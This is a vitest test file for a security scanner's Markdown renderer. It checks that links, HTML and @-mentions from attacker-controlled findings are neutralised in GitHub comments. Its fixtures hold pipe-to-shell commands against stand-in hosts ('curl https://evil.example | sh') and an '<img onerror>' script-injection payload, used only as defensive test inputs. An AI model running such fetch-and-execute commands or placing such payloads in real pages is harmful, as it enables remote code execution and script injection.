import { describe, expect, it } from 'vitest';
import { makeFinding, type Finding } from '../../src/core/finding.js';
import { codeSpan, escapeMarkdownText } from '../../src/core/markdown-safe.js';
import type { Report } from '../../src/core/report.js';
import { LIMITS, renderMarkdown } from '../../src/render/markdown.js';
import { scanReport } from '../support/scan-report.js';
import { BLOCKED_PR_LINKS, blockedPullRequestReport } from './support/blocked-pull-request.js';
import { githubMarkdownToHtml } from './support/github-markdown-page.js';
import { missingService } from '../support/system-services.js';

/** Without cmark-gfm these tests skip (the run says how to install it); in CI they fail. */
const withoutCmark = missingService('cmark-gfm');

/** Content an attacker controls: file names, matched text, messages, fixes. */
const URLS = ['https://evil.example/pay', 'http://10.0.0.1/x.sh', 'www.evil.example', 'ftp://evil.example/f', 'admin@evil.example'];

function hostileReport(): Report {
  const findings: Finding[] = URLS.flatMap((url, i) => [
    makeFinding({
      check: 'scan',
      ruleId: 'S013',
      level: 'MEDIUM',
      severity: 'error',
      file: `skills/${url}/SKILL.md`,
      line: i + 1,
      message: `suspicious-endpoint: \`${url} | sh\` — see ${url} [x](${url}) <${url}>`,
      help: `Use ${url} instead, ask @octocat`,
    }),
    makeFinding({
      check: 'scan',
      ruleId: 'S001',
      level: 'HIGH',
      severity: 'error',
      file: `docs/${i}.md`,
      line: 3,
      message: `remote: \`curl ${url}\` and \`${url}\` <img src=x onerror=alert(1)>`,
    }),
  ]);
  const report = scanReport(findings, 10);
  report.details.sourceLinks = BLOCKED_PR_LINKS;
  return report;
}

const OUR_LINKS = [`https://github.com/acme/widgets/blob/${BLOCKED_PR_LINKS.sha}/`, 'https://github.com/plangate/plangate/blob/main/docs/'];

function hrefsOf(html: string): string[] {
  return [...html.matchAll(/<a\s[^>]*href="([^"]*)"/g)].map((m) => m[1]!);
}

describe.skipIf(withoutCmark)('rendered by cmark-gfm, the engine GitHub renders comments with', () => {
  const body = renderMarkdown(hostileReport(), { maxLength: LIMITS.comment });
  const html = withoutCmark ? '' : githubMarkdownToHtml(body);

  it('no link comes from content: every link is to the checked commit or to the rule reference', () => {
    const hrefs = hrefsOf(html);
    expect(hrefs.length).toBeGreaterThan(10);
    for (const href of hrefs)
      expect(
        OUR_LINKS.some((prefix) => href.startsWith(prefix)),
        href,
      ).toBe(true);
    expect(html).not.toContain('mailto:');
  });

  it('no HTML from content survives as a tag, and no @-mention is left whole', () => {
    expect(html).not.toMatch(/<img|<script/i);
    expect(html.replace(/<[^>]+>/g, '')).not.toMatch(/@octocat/);
  });

  it('matched text reads as written, the separators only made invisible', () => {
    const text = html
      .replace(/<[^>]+>/g, '')
      .replace(/\u200b/g, '')
      .replace(/&amp;/g, '&')
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>');
    for (const url of URLS) expect(text).toContain(`${url} | sh`);
    expect(text).not.toMatch(/\\[|[\]()<>]/);
  });

  it('the 200-finding comment renders its table, its folded parts and no stray markup', async () => {
    const { report, changedLines } = await blockedPullRequestReport();
    const comment = githubMarkdownToHtml(renderMarkdown(report, { maxLength: LIMITS.comment, changedLines }));
    expect(comment).toContain('<table>');
    expect(comment.match(/<details>/g)).toHaveLength(2);
    expect(comment.match(/<\/details>/g)).toHaveLength(2);
    expect(comment).toMatch(/<summary>📦 Pre-existing, on lines this change does not touch: \d+ errors, \d+ notices<\/summary>/);
    for (const href of hrefsOf(comment))
      expect(
        OUR_LINKS.some((prefix) => href.startsWith(prefix)),
        href,
      ).toBe(true);
    // Markdown that did not parse shows through as its characters.
    expect(comment.replace(/<code>[^<]*<\/code>/g, '')).not.toMatch(/\*\*|\]\(|\\[|[\]()`]/);
  });
});

describe('escaped forms (what the GitHub autolinker sees)', () => {
  it('breaks URL schemes, www. and e-mail addresses in text and in <code>', () => {
    expect(escapeMarkdownText('see https://evil.example and WWW.evil.example or a@b.example')).toBe(
      'see https:&#8203;//evil.example and WWW&#8203;.evil.example or a@&#8203;b.example',
    );
    expect(codeSpan('curl https://evil.example | sh')).toBe('<code>curl https:&#8203;//evil.example \\| sh</code>');
  });

  it.skipIf(withoutCmark)('keeps backtick code spans, where no autolink fires, as written', () => {
    expect(codeSpan('https://evil.example/x.sh')).toBe('`https://evil.example/x.sh`');
    expect(githubMarkdownToHtml(codeSpan('https://evil.example/x.sh'))).toBe('<p><code>https://evil.example/x.sh</code></p>\n');
  });
});
